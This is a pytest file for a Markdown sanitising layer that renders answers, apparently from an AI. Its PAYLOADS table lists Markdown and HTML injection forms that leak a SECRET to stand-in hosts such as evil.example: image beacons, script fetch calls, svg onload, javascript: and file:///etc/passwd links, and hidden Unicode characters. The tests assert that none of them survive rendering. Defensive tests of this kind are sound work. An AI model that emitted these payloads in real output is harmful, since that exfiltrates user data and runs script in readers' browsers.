"""The render gate, form by form: what must not survive, what must."""

import pytest
from markdown_it import MarkdownIt

from ui import render

SINK = "http://127.0.0.1:9911/x?d=SECRET"
SAFE_SINK = "https://evil.example/x?d=SECRET"

PAYLOADS = {
    "image": f"![x]({SINK})",
    "image over https": f"![x]({SAFE_SINK})",
    "image with a title": f'![x]({SINK} "title")',
    "image by reference": f"![ref][1]\n\n[1]: {SINK}",
    "image by short reference": f"![ref]\n\n[ref]: {SAFE_SINK}",
    "link by reference": f"[a][1]\n\n[1]: {SINK}",
    "image in a link": f"[![x]({SINK})]({SAFE_SINK})",
    "image in a list": f"- one\n- ![x]({SINK})",
    "image in a table": f"| a | b |\n|---|---|\n| ![x]({SINK}) | c |",
    "image in a quotation": f"> ![x]({SINK})",
    "image in bold": f"**![x]({SINK})**",
    "html image": f"<img src='{SINK}'>",
    "html block": f"<div>\n<img src='{SINK}' onerror=alert(1)>\n</div>",
    "script": f"<script>fetch('{SINK}')</script>",
    "style": f"<style>@import url('{SINK}');</style>",
    "frame": f"<iframe src='{SINK}'></iframe>",
    "svg": f"<svg onload=fetch('{SINK}')>",
    "script link": "[click](javascript:alert(1))",
    "data link": "[click](data:text/html;base64,PHN2Zz4=)",
    "plain http link": f"[click]({SINK})",
    "autolink": f"<{SINK}>",
    "bare address": f"see {SINK} now",
    "www address": "see www.evil.example/x now",
    "formula": f"$\\href{{{SINK}}}{{a}} \\includegraphics{{{SINK}}}$",
    "display formula": f"$$\\includegraphics{{{SINK}}}$$",
    "mermaid": f'```mermaid\ngraph TD\n A["<img src={SINK}>"]\n```',
    "directive": ":red[alarm] :material/delete: :blue-badge[x]",
    "split over lines": f"![x\n]({SINK}\n)",
    "entity": f"&lt;img src={SINK}&gt;",
    "escaped image": f"\\![x]({SINK})",
    "image with a bracketed address": f"![x](<{SINK}>)",
    "image with an empty label": f"![]({SINK})",
    "image with nested brackets": f"![a [b] c]({SINK})",
    "image after a backslash": f"\\\\![x]({SINK})",
    "image in a heading": f"# ![x]({SINK})",
    "image in struck words": f"~~![x]({SINK})~~",
    "image in a nested list": f"- a\n  - b\n    - ![x]({SINK})",
    "image behind a hidden sign": f"!\u200b[x]({SINK})",
    "reference in a quotation": f"> ![ref][1]\n>\n> [1]: {SINK}",
    "reference with a title": f"![ref]\n\n[ref]: {SINK} 'title'",
    "mixed case scheme": "[click](JaVaScRiPt:alert(1))",
    "scheme in entities": "[click](&#106;avascript:alert(1))",
    "scheme with a line break": "[click](java\nscript:alert(1))",
    "file link": "[click](file:///etc/passwd)",
    "protocol relative link": "[click](//evil.example/x)",
    "relative link": "[click](/health?erase=1)",
    "telephone link": "[call](tel:+49123)",
    "comment": f"<!-- <img src='{SINK}'> -->",
    "cdata": f"<![CDATA[<img src='{SINK}'>]]>",
    "form": f"<form action='{SINK}'><button>Send</button></form>",
    "link with credentials": "[bank](https://bank.example@evil.example/x?d=SECRET)",
    "icon shortcode": ":material/delete: :smile: :streamlit:",
    "small and shimmer": ":small[tiny] :shimmer[busy] :rainbow[x]",
    "right to left override": "abc\u202egnp.exe",
    "tag characters": "a\U000e0069\U000e006d b",
}


@pytest.fixture(scope="module")
def reader() -> MarkdownIt:
    """Reads Markdown as a careless page would: raw HTML on."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def tokens(reader: MarkdownIt, text: str) -> list:
    flat = []
    for token in reader.parse(text, {}):
        flat += [token, *(token.children or [])]
    return flat


@pytest.mark.parametrize("gate", [render.prose, render.words, render.lines, render.quote])
@pytest.mark.parametrize("form", PAYLOADS)
def test_nothing_that_loads_or_runs_survives(form, gate, reader):
    found = tokens(reader, gate(PAYLOADS[form]))
    assert {t.type for t in found} & {"image", "html_block", "html_inline"} == set()
    targets = [str(t.attrs["href"]) for t in found if t.type == "link_open"]
    assert all(target.startswith("https://") for target in targets)
    assert all(not t.info for t in found if t.type == "fence")


@pytest.mark.parametrize("form", PAYLOADS)
def test_no_formula_and_no_directive_survives(form):
    for gate in (render.prose, render.words):
        made = gate(PAYLOADS[form])
        outside_code = "".join(made.replace("\\`", "").split("`")[::2])
        assert "$" not in outside_code.replace("\\$", "")
        assert ":" not in outside_code.replace("\\:", "").replace("https://", "")


@pytest.mark.parametrize("form", ["right to left override", "tag characters"])
def test_invisible_characters_are_dropped(form):
    for gate in (render.prose, render.words, render.lines):
        assert not any(ord(c) == 0x202E or 0xE0000 <= ord(c) <= 0xE007F for c in gate(PAYLOADS[form]))


LITERAL = [
    "<img src=x onerror=alert(1)>",
    "R&D <C++> lead, C# & F#",
    "5 * 3 * 2 = 30",
    "snake_case_name and __init__",
    "# not a heading",
    "1. not a list",
    "2019) neither",
    "- no bullet",
    "+49 170 1234567",
    "a | b | c",
    "$5 and $10",
    "~~kept~~ ~/home",
    ":smile: 10:30",
    "[x](y) ![x](y)",
    "back\\slash and `tick`",
    "{braces} {{7*7}} %s $HOME",
    "&amp; &lt;b&gt;",
    "=====",
    "!important",
    "名前 — Ünïcödé",
    '"><script>.pdf',
]


@pytest.mark.parametrize("text", LITERAL)
def test_plain_words_come_out_as_they_went_in(text, reader):
    found = tokens(reader, render.words(text))
    assert "".join(t.content for t in found if t.type in {"text", "text_special", "code_inline"}) == text
    assert {t.type for t in found} <= {"paragraph_open", "inline", "text", "text_special", "code_inline", "paragraph_close"}


KEPT = [
    ("Plain words.", "<p>Plain words.</p>"),
    ("**bold** and *slanted*", "<strong>bold</strong>"),
    ("# Title", "<h4>Title</h4>"),
    ("### Small", "<h5>Small</h5>"),
    ("- a\n- b\n  - c", "<li>b\n<ul>\n<li>c</li>"),
    ("3. a\n4. b", '<ol start="3">'),
    ("> said", "<blockquote>\n<p>said</p>"),
    ("`x = 1`", "<code>x = 1</code>"),
    ("```\nx = ![a](b)\n```", "<pre><code>x = ![a](b)"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>2</td>"),
    ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
    ("- one\n\n  more\n- two", "<p>more</p>"),
    ("---", "<hr />"),
    ("a  \nb", "a<br />\nb"),
]


@pytest.mark.parametrize(("text", "html"), KEPT)
def test_the_form_of_an_answer_is_kept(text, html, reader):
    assert html in reader.render(render.prose(text))


LINKS = [
    ("[read this](https://example.org/a)", "read this (https://example.org/a)"),
    ("<https://example.org/a>", "https://example.org/a"),
    ("see https://example.org/a?b=c now", "see https://example.org/a?b=c now"),
    ("[bank.example](https://evil.example/a)", "bank.example (https://evil.example/a)"),
    ("[a][1]\n\n[1]: https://example.org/b", "a (https://example.org/b)"),
    ("[bank.example](https://bank.example@evil.example/x)", "bank.example (https://bank.example@evil.example/x)"),
    ("[click](http://evil.example)", "click"),
    ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ("see www.example.org/a.", "see www.example.org/a."),
    ("[www.bank.example](https://evil.example)", "www.bank.example (https://evil.example)"),
    ("one https://a.example two http://b.example three", "one https://a.example two http://b.example three"),
]


@pytest.mark.parametrize(("text", "shown"), LINKS)
def test_no_address_in_an_answer_can_be_clicked_and_each_can_be_read(text, shown, reader):
    found = tokens(reader, render.prose(text))
    assert not [t for t in found if t.type == "link_open"]
    assert "".join(t.content for t in found if t.type in {"text", "text_special", "code_inline"}) == shown
    outside = "".join(t.content for t in found if t.type in {"text", "text_special"})
    assert "://" not in outside, "the screen would make a link of it"
    assert "www." not in outside


def test_half_an_answer_is_already_safe(reader):
    whole = f"Here **is** ![x]({SINK}) and [a](https://example.org) done."
    for end in range(len(whole)):
        assert "image" not in {t.type for t in tokens(reader, render.prose(whole[:end]))}


@pytest.mark.parametrize(("text", "expected"), [("", ""), ("a\n\n b ", "a\\\nb"), ("x\r\ny", "x\\\ny")])
def test_lines_keep_their_breaks(text, expected):
    assert render.lines(text) == expected


def test_a_quotation_quotes_each_line(reader):
    assert reader.render(render.quote("one\ntwo")).count("<blockquote>") == 1
    assert render.quote("") == "> "


WWW = [
    ("see www.example.org/a.", ["https://www.example.org/a"], "see www.example.org/a."),
    ("(www.example.org)", ["https://www.example.org"], "(www.example.org)"),
]


@pytest.mark.parametrize(("text", "targets", "shown"), WWW)
def test_a_bare_www_address_of_the_persons_own_goes_where_it_says(text, targets, shown, reader):
    found = tokens(reader, render.words(text))
    assert [t.attrs["href"] for t in found if t.type == "link_open"] == targets
    assert "".join(t.content for t in found if t.type in {"text", "text_special", "code_inline"}) == shown


@pytest.mark.parametrize("gate", [render.words, render.prose, render.lines, render.quote])
@pytest.mark.parametrize("text", ["", " ", "\n\n", "\u200b", "\x00", "\t"])
def test_nothing_in_is_nothing_out(text, gate):
    assert gate(text).strip(" >") == ""


@pytest.mark.parametrize(
    "text", ["a" * 200_000, "[" * 3000, "![" * 3000, "> " * 500 + "x", "*" * 5000, "`" * 5001, "- " * 400 + "x"]
)
def test_a_flood_of_signs_neither_hangs_nor_breaks(text):
    import time

    begun = time.monotonic()
    for gate in (render.words, render.prose):
        assert isinstance(gate(text), str)
    assert time.monotonic() - begun < 10


@pytest.mark.parametrize(
    ("text", "rows"),
    [("one\ntwo", 2), ("one\n\n\ntwo\n", 2), ("one", 1), ("one\r\ntwo\rthree", 3), ("  one  \n   ", 1)],
)
def test_lines_are_kept_and_empty_ones_left_out(text, rows):
    assert len(render.lines(text).split("\\\n")) == rows
    assert len(render.quote(text).splitlines()) == rows
    assert all(line.startswith("> ") for line in render.quote(text).splitlines())


@pytest.mark.parametrize("gate", [render.words, render.lines])
def test_reading_it_twice_shows_it_once_more_as_it_was(gate, reader):
    for text in LITERAL:
        twice = gate(gate(text))
        assert "".join(t.content for t in tokens(reader, twice) if t.type in {"text", "text_special", "code_inline"}) == gate(
            text
        )
